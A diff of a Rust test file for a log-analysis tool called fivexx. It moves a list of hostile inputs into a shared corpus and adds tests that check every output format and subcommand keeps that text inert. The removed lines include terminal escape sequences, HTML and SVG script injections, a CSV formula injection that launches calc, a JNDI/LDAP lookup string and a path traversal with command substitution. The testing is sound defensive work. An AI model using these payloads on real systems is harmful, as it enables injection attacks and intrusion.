@@ -1,6 +1,8 @@
-//! Text that wants to be more than text, and files that want to be more than files: every case goes through every form of the report.
+//! The hostile corpus through every form of the report, and through every subcommand.
 
-use super::{common, formats};
+use super::{common, corpus, formats};
+use assert_cmd::Command;
+use corpus::Text;
 use fivexx::analysis::{Settings, analyze};
 use fivexx::diagnosis::cause::Causes;
 use fivexx::model::{Report, Verdict};
@@ -9,59 +11,12 @@ use fivexx::parser::stamp::YearHint;
 use fivexx::scanned::{Scan, ScannedFile};
 use fivexx::source::discover;
 use fivexx::source::read::{Progress, Reading, scan};
-use std::fmt::Write;
-use std::path::Path;
+use formats::{Kind, Written};
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::path::{Path, PathBuf};
 use std::sync::OnceLock;
-
-/// Texts that somebody could send as a path, a host name or a user agent, or call a file.
-const PAYLOADS: [(&str, &str); 46] = [
-    ("screen cleared", "\x1b[2J\x1b[H"),
-    ("title set", "\x1b]0;owned\x07"),
-    ("link of a terminal", "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"),
-    ("clipboard", "\x1b]52;c;ZXZpbA==\x07"),
-    ("answer back", "\x1b[c\x1b[6n\x1b[5n"),
-    ("keys", "\x1bP$q\"p\x1b\\"),
-    ("8-bit controls", "\u{9b}2J\u{9d}0;x\u{9c}"),
-    ("backspaces", "safe\x08\x08\x08\x08evil"),
-    ("carriage return", "evil\rgood"),
-    ("bell and form feed", "\x07\x0c\x0b"),
-    ("delete", "a\x7f\x7fb"),
-    ("html script", "<script>alert(1)</script>"),
-    ("html image", "<img src=x onerror=alert(1)>"),
-    ("html comment", "<!-- --><b>x</b><!--"),
-    ("html closing", "</code></pre></td></table></svg></style></script>"),
-    ("html entity", "&lt;script&gt;&#60;script&#62;"),
-    ("html attribute", "\" onmouseover=\"alert(1)\" x=\""),
-    ("svg", "<svg onload=alert(1)><use href=\"http://evil.example/x.svg#a\"/></svg>"),
-    ("svg text", "]]></text><script>alert(1)</script>"),
-    ("mermaid", "```mermaid\\ngraph TD; A[x]-->B; click A \"http://evil.example\"\\n```"),
-    ("mermaid directive", "%%{init: {'theme':'base'}}%%; click A call alert()"),
-    ("markdown link", "[click](http://evil.example/)"),
-    ("markdown image", "![x](http://evil.example/t.png)"),
-    ("markdown reference", "[x]: http://evil.example/"),
-    ("autolink", "<http://evil.example/> http://evil.example/ www.evil.example"),
-    ("markdown code", "`` ` ``` ~~~"),
-    ("markdown fence", "````"),
-    ("markdown table", "a|b|c\\|d"),
-    ("markdown emphasis", "**bold** __b__ ~~no~~ *i* _i_"),
-    ("markdown heading", "# evil"),
-    ("markdown quote", "> evil"),
-    ("markdown formula", "$\\href{http://evil.example}{x}$ $$x$$"),
-    ("footnote", "[^1] [^1]: x"),
-    ("right to left", "\u{202e}gpj.exe\u{202c}"),
-    ("isolates", "\u{2066}x\u{2069}\u{2067}\u{2068}"),
-    ("marks of direction", "\u{200e}\u{200f}\u{61c}"),
-    ("nothing to see", "a\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}b"),
-    ("tags", "a\u{e0041}\u{e0042}\u{e007f}b"),
-    ("line separators", "a\u{2028}b\u{2029}c\u{85}d"),
-    ("slack call", "<!channel> <!here> <@U024BE7LH> @everyone"),
-    ("slack link", "<http://evil.example|safe.example>"),
-    ("formula of a table", "=HYPERLINK(\"http://evil.example\",\"x\")"),
-    ("command of a table", "=cmd|' /C calc'!A0"),
-    ("other formulas", "+1+1;-1+1;@SUM(1)"),
-    ("placeholders", "{{7*7}} ${jndi:ldap://evil.example/a} %s%n {0} #{x}"),
-    ("path", "../../../../etc/passwd; $(touch evil) `touch evil`"),
-];
+use tempfile::TempDir;
 
 pub fn catalog() -> &'static Catalog {
     static CATALOG: OnceLock<Catalog> = OnceLock::new();
@@ -98,151 +53,200 @@ fn held(name: &str, report: &Report) {
     }
 }
 
-/// An outage whose lines say `evil` wherever a client or a name has a say, in files that are named so.
-fn outage(evil: &str) -> Vec<(String, Vec<u8>)> {
-    let mut errors = String::new();
-    let mut access = String::new();
-    let mut app = String::new();
-    for i in 0..240 {
-        let (minute, second) = (i / 60, i % 60);
-        let failing = (60..180).contains(&i);
-        let status = if failing { 502 } else { 200 };
-        for n in 0..4 {
-            let _ = writeln!(
-                access,
-                "203.0.113.9 - {evil} [21/Nov/2026:00:{minute:02}:{second:02} +0000] \"GET /{evil}/{n} HTTP/1.1\" {status} 157 \"{evil}\" \"{evil}\""
-            );
-        }
-        if failing {
-            let _ = writeln!(
-                errors,
-                "2026/11/21 00:{minute:02}:{second:02} [error] 1#1: *{i} connect() to unix:/run/{evil}.sock failed (11: Resource temporarily unavailable) while connecting to upstream, client: 203.0.113.9, server: {evil}, request: \"GET /{evil} HTTP/1.1\", upstream: \"uwsgi://unix:/run/{evil}.sock:\", host: \"{evil}\""
-            );
-            let _ = writeln!(app, "{evil}");
-            let _ = writeln!(app, "2026-11-21 00:{minute:02}:{second:02},123 ERROR shop.{evil} {evil}");
-            let _ = writeln!(
-                app,
-                "Traceback (most recent call last):\n  File \"{evil}.py\", line 1, in {evil}\nshop.Error{evil}: {evil}"
-            );
-            let _ = writeln!(
-                app,
-                "Nov 21 00:{minute:02}:{second:02} {evil} nginx: 2026/11/21 00:{minute:02}:{second:02} [alert] 1#1: 1024 worker_connections are not enough"
-            );
-        }
+fn write(dir: &Path, files: &[(String, Vec<u8>)]) {
+    for (path, bytes) in files {
+        let path = dir.join(path);
+        fs::create_dir_all(path.parent().expect("a folder")).expect("made");
+        fs::write(path, bytes).expect("written");
     }
-    let name: String = evil.chars().filter(|c| *c != '/' && *c != '\0').take(60).collect();
-    vec![
-        (format!("nginx/error{name}.log"), errors.into_bytes()),
-        (format!("nginx/access{name}.log"), access.into_bytes()),
-        (format!("app/app{name}.log"), app.into_bytes()),
-    ]
+}
+
+/// What attackers write, and what machines do, by kinds: none may go missing.
+#[test]
+fn the_corpus_has_all_kinds_of_cases() {
+    let (makes, _) = corpus::makes();
+    let mut kinds: BTreeMap<String, usize> = BTreeMap::new();
+    corpus::texts().into_iter().for_each(|t| *kinds.entry(t.group).or_default() += 1);
+    let made =
+        makes.iter().chain(&corpus::documents()).map(|m| m.group).chain(corpus::BIG.iter().map(|b| b.group)).collect::<Vec<_>>();
+    made.into_iter().for_each(|g| *kinds.entry(g.to_owned()).or_default() += 1);
+    for (kind, least) in [
+        ("terminal escapes", 10),
+        ("html", 10),
+        ("svg", 4),
+        ("mermaid", 3),
+        ("markdown", 10),
+        ("bidi", 3),
+        ("zero-width", 4),
+        ("slack", 3),
+        ("csv formulas", 6),
+        ("a line of 100 MB", 2),
+        ("NULs", 3),
+        ("invalid UTF-8", 3),
+        ("UTF-16", 6),
+        ("mixed line ends", 3),
+        ("1970 and 2106", 4),
+        ("1970 to 2106", 1),
+        ("10⁶ hosts", 1),
+        ("10⁶ sockets", 1),
+        ("10⁶ signals a second", 2),
+    ] {
+        assert!(kinds.get(kind).is_some_and(|n| *n >= least), "{kind}: {:?}", kinds.get(kind));
+    }
+    let all: usize = kinds.values().sum();
+    println!("{all} cases: {kinds:?}");
+    assert!(all >= 100, "{all}");
 }
 
 #[test]
 fn texts_that_want_to_be_more_than_text_stay_text() {
-    for (name, evil) in PAYLOADS {
-        let dir = tempfile::tempdir().expect("a folder");
-        for (path, bytes) in outage(evil) {
-            let path = dir.path().join(path);
-            std::fs::create_dir_all(path.parent().expect("a folder")).expect("made");
-            std::fs::write(path, bytes).expect("written");
-        }
+    for Text { group, name, text } in corpus::texts() {
+        let dir = TempDir::new().expect("a folder");
+        write(dir.path(), &corpus::outage(&text));
         let report = analyzed(dir.path());
         // Servers write quotes, controls and brackets of a client's as codes; lines that hold them as they are may be misread.
-        let usual = !evil.contains(|c: char| c.is_control() || matches!(c, '"' | '['));
-        assert!(report.verdict == Verdict::Incident || !usual, "{name}: {:?}", report.verdict);
+        let usual = !text.contains(|c: char| c.is_control() || matches!(c, '"' | '['));
+        assert!(report.verdict == Verdict::Incident || !usual, "{group}, {name}: {:?}", report.verdict);
         let paths = report.sources.iter().map(|s| &s.path).chain(report.skipped.iter().map(|s| &s.path));
-        assert_eq!(paths.collect::<std::collections::BTreeSet<_>>().len(), 3, "{name}: a file is not mentioned");
-        held(name, &report);
+        assert_eq!(paths.collect::<BTreeSet<_>>().len(), 3, "{group}, {name}: a file is not mentioned");
+        held(&format!("{group}, {name}"), &report);
     }
+}
+
+/// A log that somebody sent control characters into, hundreds of them with each request, is a log all the same: nobody makes it be passed over.
+#[test]
+fn control_characters_in_requests_do_not_hide_a_log() {
+    let dir = TempDir::new().expect("a folder");
+    let noise: String = (1..32u8).filter(|b| *b != b'\n').map(char::from).collect::<String>().repeat(10);
+    write(dir.path(), &corpus::outage("shop")[..2]);
+    let log = "2026-11-21 00:01:30,123 ERROR shop.views no such page: ".to_owned() + &noise + "\n";
+    fs::write(dir.path().join("app.log"), log.repeat(200)).expect("written");
+    let report = analyzed(dir.path());
+    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
+    assert_eq!(report.sources.iter().find(|s| s.path == "app.log").map(|s| s.lines), Some(200));
+    held("noise", &report);
 }
 
 /// As servers, shells and broken disks write files. The outage must be found in each; what could not be read must be said.
 #[test]
 fn files_of_every_make_give_their_answer() {
-    let [(_, errors), (_, access), _] = &outage("shop")[..] else { panic!("three files") };
-    let text = String::from_utf8(errors.clone()).expect("text");
-    let le = |t: &str| -> Vec<u8> { t.encode_utf16().flat_map(u16::to_le_bytes).collect() };
-    let be = |t: &str| -> Vec<u8> { t.encode_utf16().flat_map(u16::to_be_bytes).collect() };
-    let mixed: String =
-        text.lines().enumerate().map(|(i, l)| format!("{l}{}", ["\n", "\r\n", "\n\r\n", "\n\n"][i % 4])).collect();
-    let invalid: Vec<u8> =
-        text.lines().flat_map(|l| [l.as_bytes(), b" \xff\xfe\xc3\x28\xed\xa0\x80 \xf0\x28\n".as_slice()].concat()).collect();
-    let torn = [&errors[..errors.len() / 2], &vec![0; 100_000], &errors[errors.len() / 2..]].concat();
-    let nul: Vec<u8> = text.lines().flat_map(|l| [l.as_bytes(), b"\0\0\n"].concat()).collect();
-    let long = [errors.as_slice(), &vec![b'x'; 3 << 20], b"\n"].concat();
-    let cases: Vec<(&str, Vec<u8>)> = vec![
-        ("UTF-16, little end, marked", le(&format!("\u{feff}{text}"))),
-        ("UTF-16, big end, marked", be(&format!("\u{feff}{text}"))),
-        ("UTF-16, little end, not marked", le(&text)),
-        ("UTF-16, big end, not marked", be(&text)),
-        ("UTF-16, line ends of Windows", le(&format!("\u{feff}{}", text.replace('\n', "\r\n")))),
-        ("UTF-16, cut in the middle of a pair", le(&format!("\u{feff}{text}"))[..errors.len()].to_vec()),
-        (
-            "UTF-16, halves of characters",
-            [le(&format!("\u{feff}{text}")), vec![0x00, 0xd8, 0x00, 0xdc, 0x00, 0xd8, 0x0a, 0x00]].concat(),
-        ),
-        ("UTF-8, marked", format!("\u{feff}{text}").into_bytes()),
-        ("bytes that are no UTF-8", invalid),
-        ("mixed line ends", mixed.into_bytes()),
-        ("line ends of old Macs between others", [errors.as_slice(), b"\r\r\r\n"].concat()),
-        ("a hole of zeros", torn),
-        ("zeros in lines", nul),
-        ("a line of three megabytes", long),
-        ("no line end at the end", errors[..errors.len() - 1].to_vec()),
-        ("a line of 1970", [b"1970/01/01 00:00:00 [notice] 1#1: x\n".as_slice(), errors].concat()),
-        ("a line of 2106", [errors.as_slice(), b"2106/02/07 06:28:15 [notice] 1#1: x\n"].concat()),
-        ("a line of no date", [b"2026/13/45 27:61:99 [error] 1#1: connect() failed\n".as_slice(), errors].concat()),
-        (
-            "years of no calendar",
-            [b"9999/12/31 23:59:59 [error] 1#1: x\n0000/00/00 00:00:00 [error] 1#1: x\n".as_slice(), errors].concat(),
-        ),
-        (
-            "numbers without end",
-            [
-                b"1.2.3.4 - - [21/Nov/2026:00:00:39 +0000] \"GET / HTTP/1.1\" 99999999999999999999 1e999 \"-\" \"-\" rt=1e308\n"
-                    .as_slice(),
-                errors,
-            ]
-            .concat(),
-        ),
-        (
-            "offsets of no zone",
-            [b"1.2.3.4 - - [21/Nov/2026:00:00:39 +9999] \"GET / HTTP/1.1\" 502 1 \"-\" \"-\"\n".as_slice(), errors].concat(),
-        ),
-        ("nested JSON", [format!("{}{}\n", "[".repeat(50_000), "]".repeat(50_000)).into_bytes(), errors.clone()].concat()),
-        ("JSON without end", [format!("{{\"a\":{}\n", "{\"a\":".repeat(50_000)).into_bytes(), errors.clone()].concat()),
-    ];
-    for (name, bytes) in cases {
-        let dir = tempfile::tempdir().expect("a folder");
-        std::fs::write(dir.path().join("error.log"), bytes).expect("written");
-        std::fs::write(dir.path().join("access.log"), access).expect("written");
+    let (makes, access) = corpus::makes();
+    for made in makes {
+        let name = format!("{}, {}", made.group, made.name);
+        let dir = TempDir::new().expect("a folder");
+        write(dir.path(), &[("error.log".to_owned(), made.bytes), ("access.log".to_owned(), access.clone())]);
         let report = analyzed(dir.path());
-        held(name, &report);
-        assert_eq!(report.sources.len() + report.skipped.len(), report.sources.len(), "{name}: {:?}", report.skipped);
+        held(&name, &report);
+        assert!(report.skipped.is_empty(), "{name}: {:?}", report.skipped);
         let incident = report.incidents.first().unwrap_or_else(|| panic!("{name}: no incident"));
         assert_eq!(incident.dropped_at.mechanism, "listen_queue_full", "{name}");
+        if made.group == "long lines" {
+            assert!(report.remarks.iter().any(|r| r.contains("error.log: 1 line is longer than 1 MiB")), "{:?}", report.remarks);
+        }
     }
 }
 
 /// What says that it is a document of metrics, and is not.
 #[test]
 fn documents_that_are_none_are_said_to_be_none() {
-    for (name, bytes) in [
-        ("cut", br#"{"MetricDataResults":[{"Id":"m1","Label":"HTTPCode_ELB_5XX_Count","Timestamps":["2026"#.to_vec()),
-        ("deep", format!("{{\"MetricDataResults\":{}", "[".repeat(200_000)).into_bytes()),
-        ("wrong types", br#"{"MetricDataResults":[{"Id":1,"Label":{},"Timestamps":"x","Values":[null,"NaN",1e999]}]}"#.to_vec()),
-        ("matrix", br#"{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"x"},"values":[[1e300,"Inf"],[-1,"NaN"]]}]}}"#.to_vec()),
-        ("picture", [b"\x89PNG\r\n\x1a\n".as_slice(), &(0..5000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect::<Vec<_>>()].concat()),
-        ("nothing but zeros", vec![0; 1 << 20]),
-        ("empty", Vec::new()),
-        ("a newline", b"\n".to_vec()),
-    ] {
-        let dir = tempfile::tempdir().expect("a folder");
-        std::fs::write(dir.path().join("x.json"), bytes).expect("written");
+    for made in corpus::documents() {
+        let dir = TempDir::new().expect("a folder");
+        write(dir.path(), &[("x.json".to_owned(), made.bytes)]);
         let report = analyzed(dir.path());
-        held(name, &report);
-        assert!(report.incidents.is_empty(), "{name}");
-        assert!(report.skipped.iter().any(|s| !s.because.is_empty()) || !report.sources.is_empty(), "{name}: not mentioned");
+        held(made.name, &report);
+        assert!(report.incidents.is_empty(), "{}", made.name);
+        assert!(
+            report.skipped.iter().any(|s| !s.because.is_empty()) || !report.sources.is_empty(),
+            "{}: not mentioned",
+            made.name
+        );
     }
+}
+
+/// A run of the program: what it wrote to both, and that it did not fall.
+fn run(words: &[&str], paths: &[&Path]) -> (String, String) {
+    let out = Command::cargo_bin("fivexx").expect("it is built").args(words).args(paths).output().expect("it runs");
+    let [text, said] = [&out.stdout, &out.stderr].map(|b| String::from_utf8(b.clone()).expect("UTF-8"));
+    assert!(out.status.code().is_some_and(|c| c < 2), "{words:?}: {:?}: {said}", out.status);
+    (text, said)
+}
+
+/// All texts at once, in one folder, through all that the program writes.
+#[test]
+fn no_subcommand_lets_a_text_be_more_than_text() {
+    let dir = TempDir::new().expect("a folder");
+    let logs = dir.path().join("logs");
+    for text in corpus::texts() {
+        write(&logs, &corpus::outage(&text.text));
+    }
+    let place = |name: &str| dir.path().join(name);
+    let mut wrong = Vec::new();
+    let mut looked = |what: &str, kind: Kind, text: String| {
+        let format = if what.contains("always") { "terminal in colour" } else { "of the command" };
+        assert!(text.len() > 1000 || what.ends_with("stderr") || kind == Kind::Markup, "{what}: {text}");
+        wrong.extend(formats::active(&Written { format, kind, text }).into_iter().take(3).map(|w| format!("{what}: {w}")));
+    };
+    let printed: [(&[&str], Kind); 9] = [
+        (&["analyze", "--format", "md"], Kind::Markdown),
+        (&["analyze", "--format", "md", "--charts", "mermaid"], Kind::Markdown),
+        (&["analyze", "--format", "html"], Kind::Markup),
+        (&["analyze", "--format", "json"], Kind::Json),
+        (&["analyze", "--format", "terminal"], Kind::Terminal),
+        (&["analyze", "--format", "terminal", "--color", "always"], Kind::Terminal),
+        (&["clocks"], Kind::Terminal),
+        (&["export", "--format", "csv"], Kind::Csv),
+        (&["export", "--format", "ndjson"], Kind::Ndjson),
+    ];
+    for (words, kind) in printed {
+        let (text, said) = run(words, &[&logs]);
+        looked(&words.join(" "), kind, text);
+        looked(&format!("{} stderr", words.join(" ")), Kind::Terminal, said);
+    }
+    // Into files: a report with its pictures, a table, a partial, and what is made of them.
+    for charts in ["svg", "png"] {
+        let folder = place(charts);
+        fs::create_dir(&folder).expect("made");
+        run(&["analyze", "--charts", charts, "-o"], &[&folder.join("report.md"), &logs]);
+        looked(charts, Kind::Markdown, fs::read_to_string(folder.join("report.md")).expect("written"));
+        let pictures: Vec<PathBuf> = fs::read_dir(&folder).expect("there").flatten().map(|e| e.path()).collect();
+        assert!(pictures.len() >= 3, "{pictures:?}");
+        for picture in pictures.iter().filter(|p| p.extension().is_some_and(|e| e == "svg")) {
+            looked("a picture", Kind::Markup, fs::read_to_string(picture).expect("written"));
+        }
+    }
+    run(&["export", "-o"], &[&place("timeline.parquet"), &logs]);
+    let of_logs = run(&["analyze", "--format", "json"], &[&logs]).0;
+    run(&["scan", "-o"], &[&place("partial.parquet"), &logs]);
+    let of_partial = run(&["analyze", "--format", "json"], &[&place("partial.parquet")]).0;
+    let undated = |json: &str| json.lines().filter(|l| !l.contains("\"generated_at\"")).map(str::to_owned).collect::<Vec<_>>();
+    assert_eq!(undated(&of_logs), undated(&of_partial), "names and lines go through Parquet as they are");
+    fs::write(place("a.json"), of_logs).expect("written");
+    write(&place("quiet"), &corpus::outage("shop"));
+    fs::write(place("b.json"), run(&["analyze", "--format", "json"], &[&place("quiet")]).0).expect("written");
+    for (format, kind) in [("md", Kind::Markdown), ("json", Kind::Json), ("terminal", Kind::Terminal)] {
+        for (a, b) in [("a.json", "b.json"), ("b.json", "a.json")] {
+            looked("diff", kind, run(&["diff", "--format", format], &[&place(a), &place(b)]).0);
+        }
+    }
+    // Line by line, from standard input.
+    let some = |most: usize| -> Vec<u8> {
+        let of_text = |t: &Text| {
+            corpus::outage(&t.text)
+                .into_iter()
+                .flat_map(move |(_, b)| b.split_inclusive(|c| *c == b'\n').take(most).collect::<Vec<_>>().concat())
+                .collect::<Vec<u8>>()
+        };
+        corpus::texts().iter().flat_map(of_text).collect()
+    };
+    for (words, kind, most) in [
+        (vec!["parsers", "explain"], Kind::Terminal, 4),
+        (vec!["follow", "-"], Kind::Terminal, 300),
+        (vec!["follow", "-", "--format", "json"], Kind::Ndjson, 300),
+    ] {
+        let out =
+            Command::cargo_bin("fivexx").expect("it is built").args(&words).write_stdin(some(most)).output().expect("it runs");
+        assert!(out.status.success(), "{words:?}: {:?}", out.status);
+        looked(&format!("{words:?} stderr"), kind, String::from_utf8(out.stdout).expect("UTF-8"));
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
